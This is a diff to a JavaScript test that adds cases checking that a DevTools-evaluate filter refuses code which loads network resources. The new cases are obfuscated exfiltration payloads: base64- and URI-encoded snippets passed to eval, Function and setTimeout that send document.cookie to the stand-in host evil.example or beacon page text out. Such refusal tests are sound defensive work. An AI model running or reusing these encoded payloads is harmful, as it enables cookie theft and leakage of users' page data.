@@ -605,6 +605,10 @@ t.test('a load whose URL the code computes or makes relative to the page closes 
     "new EventSource(endpoint)",
     "fetch(location.protocol + '//' + location.host + '/api/items?d=' + d)",
     'fetch(`${location.origin}/api?d=${d}`)',
+    // Code the text decodes and runs (`eval(atob(…))`, `Function(decodeURIComponent(…))`).
+    `eval(atob('${Buffer.from("const s = '/'; fetch(s + s + 'evil.example/c?d=' + document.cookie)").toString('base64')}'))`,
+    `Function(decodeURIComponent('${encodeURIComponent("fetch('/c?d=' + document.cookie)")}'))()`,
+    `setTimeout(atob('${Buffer.from("navigator.sendBeacon(location.href, document.body.innerText)").toString('base64')}'))`,
   ]) {
     const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
     t.ok(r.refused, `refused: ${code}`);
